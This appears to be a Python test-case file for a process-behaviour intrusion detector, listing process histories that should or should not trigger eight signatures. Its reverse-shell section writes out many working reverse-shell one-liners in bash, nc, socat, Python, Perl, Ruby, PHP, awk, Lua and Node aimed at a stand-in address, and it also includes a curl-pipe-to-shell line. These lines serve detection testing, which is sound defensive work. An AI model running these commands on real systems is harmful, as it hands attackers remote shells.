"""For every built-in signature: histories in which it must fire, and in which it must not."""

from __future__ import annotations

import os
from collections.abc import Callable
from typing import NamedTuple

from histories import History

__all__ = ["CASES", "Cases"]

Case = Callable[[], History]


class Cases(NamedTuple):
    fires: dict[str, Case]
    silent: dict[str, Case]


def chain(*programs: str | tuple[str, ...], **last: object) -> Case:
    """Each program is started by the one before, the first by init. `last`: of the last exec."""

    def case() -> History:
        history = History()
        pid = 1
        for number, program in enumerate(programs):
            path, *argv = (program,) if isinstance(program, str) else program
            facts = last if number == len(programs) - 1 else {}
            pid = history.spawn(pid, path, *argv, **facts)
        return history

    return case


# ------------------------------------------------------------------------------ shell from server


def server_gone() -> History:
    history = History()
    server = history.spawn(1, "/usr/sbin/nginx")
    middle = history.fork(server)
    child = history.fork(middle)
    history.exit(middle).exit(server)
    return history.exec(child, "/usr/bin/dash", "sh", comm="sh")


def server_that_was_a_shell() -> History:
    history = History()
    pid = history.spawn(1, "/usr/bin/bash", "bash")
    before = history.fork(pid)
    history.exec(pid, "/usr/sbin/nginx")
    return history.exec(before, "/usr/bin/dash", "sh", comm="sh")


JAVA = (
    "/usr/lib/jvm/bin/java",
    "java",
    "-Dcatalina.base=/x",
    "org.apache.catalina.startup.Bootstrap",
)

SHELL_FROM_SERVER = Cases(
    fires={
        "nginx": chain("/usr/sbin/nginx", ("/usr/bin/dash", "sh", "-c", "id")),
        "versioned php-fpm": chain("/usr/sbin/php-fpm8.2", ("/usr/bin/bash", "bash", "-i")),
        "apache, far up": chain(
            "/usr/sbin/apache2", "/usr/bin/perl", "/usr/bin/python3.11", "/usr/bin/zsh"
        ),
        "tomcat is java": chain(JAVA, "/usr/bin/dash"),
        "gunicorn is a script": chain(
            ("/usr/bin/python3.11", "/usr/bin/python3", "/usr/local/bin/gunicorn", "app:app"),
            "/usr/bin/sh",
        ),
        "postgres": chain("/usr/lib/postgresql/15/bin/postgres", "/usr/bin/dash"),
        "redis": chain("/usr/bin/redis-server", "/usr/bin/bash"),
        "the server has exited": server_gone,
        "known by its own name only": chain("/usr/sbin/mysqld", "/opt/x", comm="bash"),
    },
    silent={
        "no server": chain("/usr/sbin/sshd", "/usr/bin/bash"),
        "a server runs something else": chain("/usr/sbin/nginx", "/usr/bin/convert"),
        "plain java": chain(("/usr/bin/java", "java", "-jar", "idea.jar"), "/usr/bin/bash"),
        "the server's init script": chain(
            ("/usr/bin/dash", "sh", "/etc/init.d/nginx"), "/usr/bin/dash"
        ),
        "npm": chain(("/usr/bin/node", "npm", "run", "build"), "/usr/bin/dash"),
        "the parent became a server afterwards": server_that_was_a_shell,
        "a server starts from a shell": chain("/usr/bin/bash", "/usr/sbin/nginx"),
    },
)

# ----------------------------------------------------------------------------- fileless execution

RUNC = {"is_memfd": True, "comm": "runc"}

FILELESS_EXECUTION = Cases(
    fires={
        "memfd": chain("/usr/bin/python3", "/memfd:payload", is_memfd=True),
        "deleted": chain("/usr/bin/bash", "/opt/app/loader", is_deleted=True),
        "a memfd that calls itself runc": chain(
            "/usr/bin/bash", "/memfd:runc_cloned:/proc/self/exe", **RUNC
        ),
    },
    silent={
        "ordinary file": chain("/usr/bin/bash", "/usr/bin/ls"),
        "a name that looks deleted": chain("/usr/bin/bash", "/opt/x (deleted)"),
        "runc below containerd": chain(
            "/usr/bin/containerd-shim-runc-v2", "/memfd:runc_cloned:/proc/self/exe", **RUNC
        ),
        "unknown": chain("/usr/bin/bash", "/opt/x", is_memfd=None, is_deleted=None),
    },
)

# ----------------------------------------------------------------------------------- odd location


def script(path: str, cwd: str = "/") -> Case:
    return chain("/usr/bin/bash", ("/usr/bin/bash", "bash", path), script=path, cwd=cwd)


ODD_LOCATION = Cases(
    fires={
        "/tmp": chain("/tmp/x"),
        "/dev/shm": chain("/usr/bin/bash", "/dev/shm/.k/run"),
        "/var/tmp": chain("/var/tmp/a/b"),
        "hidden directory": chain("/usr/lib/.cache-1/x"),
        "hidden file": chain("/home/u/.x"),
        "hidden file in a tool's directory": chain("/home/u/.local/bin/.x"),
        "one hidden directory of two": chain("/home/u/.local/.hid/x"),
        "a script in /tmp": script("/tmp/run.sh"),
        "a script by a relative path": script("./run.sh", "/var/tmp"),
        "a script by way of the parent": script("../.x/run.sh", "/opt/a"),
        "a tool's directory without the tool": chain("/usr/bin/bash", "/tmp/go-build123/exe/main"),
    },
    silent={
        "usual": chain("/usr/bin/ls"),
        "cargo": chain("/home/dev/.cargo/bin/rustc"),
        "virtual environment": chain("/srv/app/.venv/bin/python3"),
        "node_modules": chain("/srv/app/node_modules/.bin/eslint"),
        "git hook": script("/srv/app/.git/hooks/pre-commit"),
        "a dot inside of a name": chain("/opt/app-1.2/bin.d/x.y"),
        "go test": chain("/usr/local/go/bin/go", "/tmp/go-build123/b001/x.test"),
        "rpm": chain("/usr/bin/rpm", ("/usr/bin/bash", "sh"), script="/var/tmp/rpm-tmp.a1"),
        "a script by a relative path": script("./run.sh", "/opt/app"),
        "a directory that begins like /tmp": chain("/tmpfiles/x"),
    },
)

# ---------------------------------------------------------------------------------- reverse shell

PY = (
    "import socket,subprocess,os;s=socket.socket();s.connect(('10.0.0.1',4242));"
    "os.dup2(s.fileno(),0);subprocess.call(['/bin/sh','-i'])"
)
PTY = "import socket,pty;s=socket.socket();s.connect(('10.0.0.1',4242));pty.spawn('/bin/bash')"
PERL = (
    'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,1);'
    'open(STDIN,">&S");exec("/bin/sh -i");'
)
RUBY = (
    'c=TCPSocket.new("10.0.0.1","4242");while(cmd=c.gets);IO.popen(cmd,"r"){|io|c.print io.read}end'
)
PHP = '$sock=fsockopen("10.0.0.1",4242);exec("/bin/sh -i <&3 >&3 2>&3");'
AWK = (
    'BEGIN {s = "/inet/tcp/0/10.0.0.1/4242"; while(42) { s |& getline c; '
    "while ((c |& getline) > 0) print $0 |& s; close(c) }}"
)
LUA = 'require("socket");require("os");t=socket.tcp();t:connect("h","4242");os.execute("sh -i")'
NODE = "require('child_process').exec('sh');require('net').connect(4242)"


def shell(text: str) -> Case:
    return chain("/usr/bin/bash", ("/usr/bin/bash", "bash", "-c", text))


REVERSE_SHELL = Cases(
    fires={
        "bash": shell("bash -i >& /dev/tcp/10.0.0.1/8080 0>&1"),
        "bash, spaced": shell("bash   -i  >&   /dev/tcp/10.0.0.1/8080   0>&1"),
        "bash, quoted": shell("b'as'h -i >& /d\"ev\"/t\\cp/10.0.0.1/8080 0>&1"),
        "bash, IFS": shell("bash${IFS}-i${IFS}>&/dev/tcp/10.0.0.1/8080${IFS}0>&1"),
        "bash, without -i": shell("/bin/bash &>/dev/tcp/10.0.0.1/80 <&1"),
        "sh on a descriptor": shell("0<&9;exec 9<>/dev/tcp/10.0.0.1/4242; sh <&9 >&9 2>&9"),
        "read loop": shell(
            "exec 5<>/dev/tcp/10.0.0.1/4242;cat <&5 | while read line; do $line 2>&5 >&5; done"
        ),
        "udp": shell("sh -i >& /dev/udp/10.0.0.1/4242 0>&1"),
        "mkfifo": shell("rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc h 4242 >/tmp/f"),
        "telnet twice": shell("telnet 10.0.0.1 80 | /bin/bash | telnet 10.0.0.1 25"),
        "openssl": shell(
            "mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -connect h:1 > /tmp/s"
        ),
        "nc -e": chain(("/usr/bin/nc.traditional", "nc", "-e", "/bin/sh", "10.0.0.1", "4242")),
        "nc, options together": chain(("/usr/bin/ncat", "ncat", "-nve", "/bin/bash", "h", "1")),
        "ncat --sh-exec": chain(("/usr/bin/ncat", "ncat", "--sh-exec=/bin/sh", "h", "1")),
        "nc -c": chain(("/usr/bin/nc", "nc", "-c", "/bin/bash", "10.0.0.1", "4242")),
        "busybox nc": chain(("/usr/bin/busybox", "busybox", "nc", "h", "1", "-e", "sh")),
        "busybox as nc": chain(("/usr/bin/busybox", "nc", "h", "1", "-e", "sh")),
        "python": chain(("/usr/bin/python3.11", "python3", "-c", PY)),
        "python pty": chain(("/usr/bin/python2.7", "python", "-c", PTY)),
        "perl": chain(("/usr/bin/perl", "perl", "-e", PERL)),
        "ruby": chain(("/usr/bin/ruby3.1", "ruby", "-rsocket", "-e", RUBY)),
        "php": chain(("/usr/bin/php8.2", "php", "-r", PHP)),
        "awk": chain(("/usr/bin/gawk", "awk", AWK)),
        "lua": chain(("/usr/bin/lua5.4", "lua", "-e", LUA)),
        "node": chain(("/usr/bin/node", "node", "-e", NODE)),
        "socat": chain(("/usr/bin/socat", "socat", "exec:'bash -li',pty", "tcp:10.0.0.1:4242")),
        "socat, listening": chain(("/usr/bin/socat1", "socat", "TCP-LISTEN:9", "EXEC:/bin/sh")),
    },
    silent={
        "wait for a port": shell("timeout 1 bash -c '</dev/tcp/127.0.0.1/5432'"),
        "health check": shell("exec 3<>/dev/tcp/localhost/80; echo GET / >&3; cat <&3"),
        "until it is up": shell("until echo > /dev/tcp/db/5432; do sleep 1; done 2>&1"),
        "nc as a client": chain(("/usr/bin/nc", "nc", "-zv", "example.org", "443")),
        "nc with TLS": chain(("/usr/bin/nc", "nc", "-c", "example.org", "443")),
        "python with a socket": chain(
            ("/usr/bin/python3", "python3", "-c", "import socket; print(socket.gethostname())")
        ),
        "python with subprocess": chain(
            ("/usr/bin/python3", "python3", "-c", "import subprocess; subprocess.run('ls')")
        ),
        "perl": chain(("/usr/bin/perl", "perl", "-pe", "s/a/b/")),
        "socat between files": chain(("/usr/bin/socat", "socat", "-", "UNIX:/run/x")),
        "socat proxy": chain(("/usr/bin/socat", "socat", "TCP-LISTEN:1", "TCP:h:2")),
        "a script with a shell's ending": shell("mkfifo /run/p; ./run.sh >/run/p & nc h 1 </run/p"),
        "made to be slow, pipes": shell("|mkfifo sh" * 10_000),
        "made to be slow, devices": shell("/dev/tcp/ sh >& sh <& bash - " * 5_000),
        "made to be slow, slashes": shell("|" + "/" * 50_000 + "/dev/tcp/"),
        "made to be slow, nc": chain(("/usr/bin/nc", "nc", "-" + "x" * 90_000)),
        "made to be slow, awk": chain(("/usr/bin/gawk", "awk", "/inet getline x " * 9_000)),
        "a pipe into a shell": shell("curl https://example.org/install | sh"),
        "awk": chain(("/usr/bin/mawk", "awk", "{print $1}")),
        "a file of that name": chain(("/usr/bin/cat", "cat", "/dev/tcp/10.0.0.1/80")),
        "no arguments": chain("/usr/bin/bash"),
    },
)

# ----------------------------------------------------------------------------- kernel thread name


def renames_itself(name: str) -> Case:
    def case() -> History:
        history = History()
        return history.change(history.spawn(1, "/opt/x"), comm=name)

    return case


def kernel_worker() -> History:
    history = History()
    return history.change(history.fork(2), comm="kworker/u8:1-events")


KERNEL_THREAD_NAME = Cases(
    fires={
        "first argument": chain(("/usr/bin/python3", "[kworker/0:1]")),
        "first argument, padded": chain(("/opt/x", "[kworker/u8:2]   ")),
        "any name in brackets": chain(("/opt/x", "[md-raid]")),
        "without brackets": chain(("/opt/x", "kworker/0:0H")),
        "file name": chain("/opt/kthreadd"),
        "renames itself": renames_itself("kworker/u4:3"),
        "renames itself, numbered": renames_itself("ksoftirqd/0"),
    },
    silent={
        "a worker of the kernel": kernel_worker,
        "test": chain(("/usr/bin/[", "[", "-f", "x", "]")),
        "a watchdog daemon": chain("/usr/sbin/watchdog"),
        "irqbalance": chain("/usr/sbin/irqbalance"),
        "an ordinary new name": renames_itself("worker-1"),
        "almost": renames_itself("kworkers"),
        "no arguments at all": chain("/opt/x", argv=()),
    },
)

# ---------------------------------------------------------------------------------- renamed shell

BASH = os.stat("/bin/bash")
LIKE_BASH = {"size": BASH.st_size, "device": BASH.st_dev, "inode": BASH.st_ino}
STRANGE = {"size": 1_234_567, "device": 5, "inode": 77}


def learned_then(path: str, **facts: object) -> Case:
    def case() -> History:
        history = History()
        shell = history.spawn(1, "/usr/bin/zsh", **STRANGE)
        history.spawn(shell, path, **facts)
        return history

    return case


RENAMED_SHELL = Cases(
    fires={
        "a hard link": chain("/opt/updater", **LIKE_BASH),
        "a copy that cannot be read": chain("/opt/updater", **(LIKE_BASH | {"inode": 1})),
        "a link to a shell of the recorded machine": learned_then("/opt/x", **STRANGE),
        "a copy on the recorded machine": learned_then("/opt/x", **(STRANGE | {"inode": 78})),
    },
    silent={
        "a shell": chain("/usr/bin/bash", **LIKE_BASH),
        "a shell elsewhere": chain("/srv/jail/bin/sh", **(LIKE_BASH | {"inode": 1})),
        "another size": chain("/opt/updater", size=17, device=1, inode=1),
        "unknown size": chain("/opt/updater"),
        "busybox": learned_then("/usr/bin/busybox", **STRANGE),
    },
)

# --------------------------------------------------------------------------- setuid without argv

SUID = {"mode": 0o104755, "uid": 1000, "euid": 0}

SETUID_WITHOUT_ARGV = Cases(
    fires={
        "pkexec": chain("/usr/bin/pkexec", argv=(), **SUID),
        "pkexec, since 5.18": chain("/usr/bin/pkexec", argv=("",), **SUID),
        "known by its rights": chain("/usr/bin/pkexec", argv=(), uid=1000, euid=0),
        "setgid": chain("/usr/bin/wall", argv=(), mode=0o102755, uid=1000, euid=1000),
    },
    silent={
        "with a name": chain(("/usr/bin/sudo", "sudo"), **SUID),
        "with an argument": chain("/usr/bin/pkexec", argv=("", "x"), **SUID),
        "by root": chain("/usr/bin/pkexec", argv=(), mode=0o104755, uid=0, euid=0),
        "an ordinary program": chain("/usr/bin/ls", argv=(), mode=0o100755, uid=1000, euid=1000),
        "arguments unknown": chain("/usr/bin/pkexec", argv=None, **SUID),
    },
)

# -------------------------------------------------------------------------------- broken ancestry


def orphan(*ancestors: str, heir: int = 1, **facts: object) -> Case:
    """The last ancestor forks twice, the one in the middle exits, the rest executes a program."""

    def case() -> History:
        history = History()
        pid = 1
        for path in ancestors:
            pid = history.spawn(pid, path, **facts)
        middle = history.fork(pid)
        child = history.fork(middle)
        history.exit(middle, heir=heir)
        return history.exec(child, "/opt/agent")

    return case


def orphan_of_subreaper() -> History:
    history = History()
    manager = history.spawn(1, "/usr/lib/systemd/systemd", "systemd", "--user")
    daemon = history.spawn(1, "/usr/sbin/sshd")
    middle = history.fork(daemon)
    child = history.fork(middle)
    history.exit(middle, heir=manager)
    return history.exec(child, "/opt/agent")


BROKEN_ANCESTRY = Cases(
    fires={
        "sshd": orphan("/usr/sbin/sshd", "/usr/bin/bash"),
        "a shell on a terminal": orphan("/usr/bin/bash", tty="pts/0"),
        "a web server": orphan("/usr/sbin/nginx"),
        "adopted by a subreaper": orphan_of_subreaper,
    },
    silent={
        "not an orphan": chain("/usr/sbin/sshd", "/usr/bin/bash", "/opt/agent"),
        "a service": orphan("/usr/sbin/cron"),
        "a shell without a terminal": orphan("/usr/bin/bash"),
        "a child of init": chain("/usr/sbin/sshd"),
    },
)

CASES: dict[str, Cases] = {
    "PT-SHELL-FROM-SERVER": SHELL_FROM_SERVER,
    "PT-FILELESS-EXECUTION": FILELESS_EXECUTION,
    "PT-ODD-LOCATION": ODD_LOCATION,
    "PT-REVERSE-SHELL": REVERSE_SHELL,
    "PT-KERNEL-THREAD-NAME": KERNEL_THREAD_NAME,
    "PT-RENAMED-SHELL": RENAMED_SHELL,
    "PT-SETUID-WITHOUT-ARGV": SETUID_WITHOUT_ARGV,
    "PT-BROKEN-ANCESTRY": BROKEN_ANCESTRY,
}
